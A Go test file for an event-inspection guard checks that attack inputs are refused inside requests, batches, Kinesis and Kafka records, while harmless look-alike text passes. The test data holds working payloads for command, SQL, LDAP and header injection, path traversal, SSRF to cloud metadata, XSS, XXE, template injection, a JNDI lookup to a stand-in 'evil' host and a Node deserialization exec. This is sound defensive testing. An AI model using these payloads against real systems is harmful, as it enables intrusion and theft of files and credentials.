package event

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"redoubt/policy"
	"redoubt/policy/compile"
	"redoubt/trigger"
)

// real is a guard with the default policy, enforced, and the real inspection.
func real(t testing.TB) *Guard {
	t.Helper()
	f, _ := policy.Default().Of("f")
	f.Mode = policy.Enforce
	return inspecting(t, f)
}

// inspecting is a guard with the real inspection.
func inspecting(t testing.TB, f policy.Function) *Guard {
	t.Helper()
	p, err := compile.Function(f)
	if err != nil {
		t.Fatal(err)
	}
	g, err := New(p, World{})
	if err != nil {
		t.Fatal(err)
	}
	return g
}

func TestSamplesPassInspection(t *testing.T) {
	g := real(t)
	for _, k := range trigger.All() {
		for _, s := range k.Samples() {
			if d := g.Decide(context.Background(), Invocation{Event: s.Event}); d.Verdict != Allow {
				t.Errorf("%s: %s", s.Name, reasons(d))
			}
		}
	}
}

// TestAttacks: one of each class, in a body and elsewhere.
func TestAttacks(t *testing.T) {
	g := real(t)
	for class, text := range map[string]string{
		"command": "x; cat /etc/passwd", "sql": "' OR '1'='1' --", "path": "../../../../etc/shadow", "ssrf": "http://169.254.169.254/latest/meta-data/",
		"template": "{{config.__class__.__init__.__globals__}}", "xss": "<script>alert(1)</script>", "jndi": "${jndi:ldap://evil/a}",
		"xxe": `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`, "ldap": "*)(uid=*))(|(uid=*", "header": "x\r\nSet-Cookie: a=b",
		"deserialization": `{"a":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}`,
	} {
		quoted, _ := json.Marshal(map[string]any{"a": []string{text}})
		for _, event := range []string{
			request(nil, string(quoted)), batch(message("1", "", string(quoted))), string(quoted),
			`{"Records":[{"eventSource":"aws:kinesis","kinesis":{"data":"` + base64.StdEncoding.EncodeToString(quoted) + `"}}]}`,
		} {
			d := g.Decide(context.Background(), Invocation{Event: []byte(event)})
			if d.Verdict == Allow || !strings.Contains(reasons(d), class) || d.Reasons[0].Sign == "" {
				t.Errorf("%s: %s %.60s", class, reasons(d), event)
			}
		}
	}
	for body, want := range map[string]string{
		`{"a":{"$ne":null}}`: "nosql", `{"__proto__":{"a":1}}`: "prototype", `{"constructor":{"prototype":{"a":1}}}`: "prototype",
		`{"constructor":"x","prototype":"y"}`: "", `{"name":"O'Brien","note":"it's fine; leave it at the door, really"}`: "",
		`{"text":"SELECT a book from our list; drop by the table"}`: "", "a=1&b=O%27Brien": "",
	} {
		d := g.Decide(context.Background(), Invocation{Event: []byte(request(nil, body))})
		if got := reasons(d); (got == "") != (want == "") || !strings.Contains(got, want) {
			t.Errorf("%s: %q", body, got)
		}
	}
	kafka := `{"eventSource":"aws:kafka","records":{"a-0":[{"headers":[{"h":[120,59,32,99,97,116,32,47,101,116,99,47,112,97,115,115,119,100]}]}]}}`
	if d := g.Decide(context.Background(), Invocation{Event: []byte(kafka)}); !strings.Contains(reasons(d), "command") {
		t.Errorf("Kafka's header: %q", reasons(d))
	}
}

// TestPiecesOfURLs: the names of a URL's query are those behind the question mark.
func TestPiecesOfURLs(t *testing.T) {
	g := real(t)
	for text, want := range map[string]string{
		"https://example.com/find?$where=1":              "nosql",
		"https://example.com/find?a=1&user[$ne]=x":       "nosql",
		"/find?q=1%27+or+1=1--+":                         "sql",
		"https://example.com/find?a=1&b=leave+it+there":  "",
		"https://example.com/what?is=it&where=here#more": "",
	} {
		quoted, _ := json.Marshal(text)
		d := g.Decide(context.Background(), Invocation{Event: []byte(request(nil, `{"a":`+string(quoted)+`}`))})
		if got := reasons(d); want == "" && got != "" || !strings.Contains(got, want) {
			t.Errorf("%s: %s", text, got)
		}
	}
}

// TestTextInsteadOfAnObject: a text that stands where fields should be is looked at.
func TestTextInsteadOfAnObject(t *testing.T) {
	g := real(t)
	const evil = `"x; cat /etc/passwd"`
	for event, want := range map[string]string{
		evil:                         "inspection event command",
		`"leave it at the door"`:     "",
		`["leave it", ` + evil + `]`: "inspection event[] command",
		strings.Replace(request(nil, ""), `"headers":null`, `"headers":`+evil, 1): "inspection event.headers command",
		strings.Replace(request(nil, ""), `"headers":null`, `"headers":"a"`, 1):   "",
	} {
		if got := reasons(g.Decide(context.Background(), Invocation{Event: []byte(event)})); got != want {
			t.Errorf("%s: %s", event, got)
		}
	}
}

// TestReasonsAreBounded: an attacker can't fill the log, nor time, with attacks each in
// a field of its own, also where the policy only monitors; each record has its reason.
func TestReasonsAreBounded(t *testing.T) {
	var b strings.Builder
	for i := range 20_000 {
		fmt.Fprintf(&b, `,{"a%d":"x; cat /etc/passwd"}`, i)
	}
	attacks := "[0" + b.String() + "]"
	for _, mode := range []policy.Mode{policy.Monitor, policy.Enforce} {
		f, _ := policy.Default().Of("f")
		f.Mode = mode
		g := worldly(t, f, func(w *World) { w.Inspect = nil })
		if d := g.Decide(context.Background(), Invocation{Event: []byte(attacks)}); len(d.Reasons) != most || d.Verdict != Refuse {
			t.Errorf("%s: %d reasons, %s", mode, len(d.Reasons), d.Verdict)
		}
		var messages []string
		for i := range 2 * most {
			messages = append(messages, message(fmt.Sprint(i), "", `{"a":"x; cat /etc/passwd","b":["x; cat /etc/passwd"]}`))
		}
		d := g.Decide(context.Background(), Invocation{Event: []byte(batch(messages...))})
		told := map[int]bool{}
		for _, reason := range d.Reasons {
			told[reason.Record] = true
		}
		if len(told) != 2*most || mode == policy.Enforce && len(d.Drop) != 2*most {
			t.Errorf("%s: %d records are told, %d dropped", mode, len(told), len(d.Drop))
		}
	}
}
